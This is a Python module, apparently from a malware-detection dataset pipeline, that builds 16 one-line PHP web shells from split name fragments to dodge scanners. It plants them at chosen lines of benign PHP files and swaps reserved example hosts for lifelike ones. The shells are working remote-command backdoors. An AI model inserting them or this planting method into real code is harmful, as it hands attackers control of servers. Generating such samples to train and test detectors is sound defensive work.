"""Malicious statements, put together when they are needed, and harmless hosts to plant them into.

No statement stands here as it is planted: their parts are joined at run time, so that no scanner takes this
file for a shell. They lead nowhere; nothing of what is made here is written to a disk or run.
"""

import base64
import hashlib
import re

import corpus
import near_duplicates

JOINED = {  # parts that a statement names in braces
    "E": ("ev", "al"), "A": ("ass", "ert"), "S": ("sys", "tem"), "X": ("ex", "ec"), "T": ("pass", "thru"),
    "H": ("shell", "_", "exec"), "B": ("base64", "_", "decode"), "Z": ("gz", "inflate"),
    "U": ("gz", "uncompress"), "R": ("preg", "_replace"), "C": ("create", "_function"),
    "M": ("move_", "uploaded_file"), "W": ("file_", "put_contents"), "V": ("call_", "user_func"),
    "POST": ("$_", "POST"), "GET": ("$_", "GET"), "REQ": ("$_", "REQUEST"), "COOKIE": ("$_", "COOKIE"),
    "FILES": ("$_", "FILES"), "SERVER": ("$_", "SERVER"), "F": ("String.", "fromChar", "Code"),
    "FN": ("new ", "Func", "tion"), "WS": ("Web", "Socket"), "D": ("document", ".write"), "AT": ("at", "ob"),
}


def join(template):
    """The statement: {NAME} becomes the joined parts of that name."""
    return re.sub(r"\{([A-Z0-9]+)\}", lambda match: "".join(JOINED[match[1]]), template)


BRACES = str.maketrans("<>", "{}")  # in a statement, where braces are meant


def encoded(text):
    return base64.b64encode(text.encode()).decode()


def shells():
    """16 one-line PHP shells, {name: statement}: open ones, dressed ones, droppers."""
    templates = {
        "eval": "@{E}({POST}['k']);",
        "assert": "@{A}({REQ}['q']);",
        "system": "{S}({GET}['cmd']);",
        "passthru": "if (isset({COOKIE}['p'])) {T}({COOKIE}['p']);",
        "backticks": "echo `<{GET}['c']>`;",
        "include": "@include {GET}['page'];",
        "variable function": "{REQ}['f']({REQ}['a']);",
        "call_user_func": "{V}({POST}['f'], {POST}['a']);",
        "create_function": "$f = {C}('', {POST}['b']); $f();",
        "preg_replace": "{R}('/.*/e', {POST}['r'], '');",
        "strrev": "$a = strrev('tressa'); $a({POST}['z']);",
        "chr": "$s = chr(115).chr(121).chr(115).chr(116).chr(101).chr(109); $s({GET}['x']);",
        "decoded eval": "{E}({B}('PAYLOAD'));",
        "inflated eval": "{E}({Z}({B}({POST}['d'])));",
        "array_map": "array_map('{A}', array({POST}['m']));",
        "dropper": "{W}({GET}['n'], {B}({POST}['t']));",
    }
    payload = encoded(join("if(isset({POST}['y'])){S}({POST}['y']);"))
    return {name: join(text).replace("PAYLOAD", payload).translate(BRACES) for name, text in templates.items()}


RESERVED = re.compile(r"\b(?:192\.0\.2|198\.51\.100|203\.0\.113)\.\d+\b"
                      r"|\b((?:[\w-]+\.)*[\w-]+)\.(?:example(?:\.(?:com|net|org))?|invalid|test|example\.test)\b")
ENDINGS = (".com", ".net", ".org", ".ru", ".io", ".xyz", ".top", ".info")


def lifelike(text):
    """The text with hosts as real files have them in place of those that are reserved (RFC 2606, RFC 5737), always
    the same ones: a detector may know the reserved ones from training. Nobody asks for them."""
    def host(match):
        digest = by_hash(match[0])
        if match[1] is None:
            return ".".join(str(part) for part in (45 + int(digest[0], 16), *bytes.fromhex(digest[2:8])))
        return f"{match[1]}-{digest[:4]}{ENDINGS[int(digest[4:8], 16) % len(ENDINGS)]}"
    return RESERVED.sub(host, text)


SKIP = re.compile(rb"/\*.*?\*/|//[^\n]*|#[^\n]*|'(?:\\.|[^'\\])*'|\"(?:\\.|[^\"\\])*\"|"
                  rb"<<<\s*['\"]?(\w+)['\"]?\n.*?\n\s*\1\b|\?>.*?(?:<\?php\b|\Z)", re.DOTALL)
STATEMENT = re.compile(rb"^[ \t]*(?!(?:public|private|protected|var|const|static|abstract|final|use|case|namespace"
                       rb"|return|break|continue|exit|die|throw|global)\b)[$\w].*;[ \t]*$", re.MULTILINE)


def boundaries(content):
    """Ends of lines of PHP that end a statement after which another may stand."""
    bare = SKIP.sub(lambda match: re.sub(rb"[^\n]", b"_", match[0]), content)
    return [match.end() + 1 for match in STATEMENT.finditer(bare) if match.end() < len(bare)]


def spread(places, most):
    """At most so many of them, evenly spread, the first and the last among them."""
    if len(places) <= most:
        return places
    return [places[n * (len(places) - 1) // (most - 1)] for n in range(most)]


def php_places(host):
    """{place: offset} for a statement on a line of its own."""
    ends = boundaries(host)
    return {"first": host.index(b"\n") + 1, "middle": min(ends, key=lambda end: abs(end - len(host) // 2)),
            "end": len(host)}


def planted(host, place, statement):
    """(content, span of the statement)."""
    line = statement.encode()
    offset = php_places(host)[place]
    before, after = host[:offset], host[offset:]
    if place == "end":
        if SKIP.sub(b"", host).rstrip().endswith(b"?>") or host.rstrip().endswith(b"?>"):
            line = b"<?php " + line + b" ?>"
        if not before.endswith(b"\n"):
            before += b"\n"
    return before + line + b"\n" + after, (len(before), len(before) + len(line))


def fits_php(content):
    first, _, rest = content.partition(b"\n")
    return (first.strip() == b"<?php" and b"\0" not in content and b"\r" not in content
            and not re.search(rb"^\s*(?:namespace\b|declare\s*\(\s*strict)", rest, re.MULTILINE)
            and any(len(content) // 5 < end < 4 * len(content) // 5 for end in boundaries(content)))


def fits_js(content):
    return b"\0" not in content and b"\n" in content and not content.lstrip().startswith(b"<")


def by_hash(name):
    return hashlib.sha256(name.encode()).hexdigest()


def hosts(folder, language, fits, clean, projects):
    """[(member, content)] of 2 to 60 kB: `clean` originals of infected_dev, and one file of each of so many
    projects of train_extra: those that fit, by the hash of their names, no two of them near-duplicates. Always
    the same ones."""
    wrong, chosen, index = corpus.doubtful(folder), [], near_duplicates.Index()
    for stem, label, most in (("infected_dev", "clean", clean), ("train_extra", "benign", projects)):
        table = corpus.table(folder, stem)
        wanted = {member for member, file in table.items() if file.label == label and file.language == language
                  and member not in wrong and (label == "clean" or 2000 <= file.bytes <= 60000)}
        found, sources = [], set()
        contents = dict(corpus.contents(folder, stem, wanted)) if most else {}
        for member in sorted(contents, key=by_hash):
            key = member if label == "clean" else table[member].source
            content = contents[member]
            if 2000 <= len(content) <= 60000 and key not in sources and fits(content):
                sketch = near_duplicates.sketch(content)
                if index.like(sketch):
                    continue
                index.add(sketch)
                found.append((member, content))
                sources.add(key)
            if len(found) == most:
                break
        chosen += found
    return chosen
